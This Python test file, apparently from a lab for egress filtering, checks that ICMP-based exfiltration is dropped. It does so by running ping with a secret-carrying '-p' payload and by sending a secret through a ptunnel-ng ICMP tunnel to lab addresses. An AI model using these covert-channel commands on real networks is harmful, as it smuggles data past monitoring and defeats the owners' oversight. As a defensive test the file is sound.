# SPDX-License-Identifier: Apache-2.0
"""Tunnels in ping."""

from lab import v4, v6

from .packets import SECRET


def test_ping(attack):
    with attack("ping with data") as attempt:
        for address in (v4("raw"), v6("raw")):
            attempt.run(["ping", "-c", "2", "-i", "0.2", "-W", "1", "-s", "64", "-p", SECRET.hex(), address])
    for address in (v4("raw"), v6("raw")):
        found = attempt.recorded("drop", reason="icmp", dst=address)
        assert sum(record["count"] for record in found) == 2


def test_ptunnel(attack):
    """ptunnel-ng carries TCP in echo requests; without root it uses the kernel's ping sockets."""
    with attack("ICMP tunnel (ptunnel-ng)") as attempt:
        attempt.start(["ptunnel-ng", "-v", "4", "-p", v4("raw"), "-r127.0.0.1", "-R22", "-l", "2222", *([] if attempt.root else ["--unprivileged"])])
        attempt.run(["/usr/bin/python3", "-c", f"""
import socket, time
while True:
    try:
        sock = socket.create_connection(("127.0.0.1", 2222))
        break
    except ConnectionRefusedError:
        time.sleep(0.01)
while True:
    sock.sendall({SECRET!r})
    time.sleep(0.1)
"""], until=lambda: attempt.records("drop", reason="icmp"))
    attempt.recorded("drop", reason="icmp", dst=v4("raw"))
